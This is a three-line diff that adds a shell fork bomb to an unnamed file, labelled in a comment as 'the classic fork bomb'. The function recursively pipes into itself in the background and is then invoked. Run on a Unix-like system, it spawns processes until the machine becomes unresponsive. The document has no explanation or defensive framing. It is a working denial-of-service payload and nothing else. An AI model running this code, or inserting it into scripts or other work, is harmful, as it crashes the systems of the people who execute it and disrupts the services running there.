@@ -1,0 +1,3 @@
+# The classic fork bomb.
+f() { f | f & }
+f
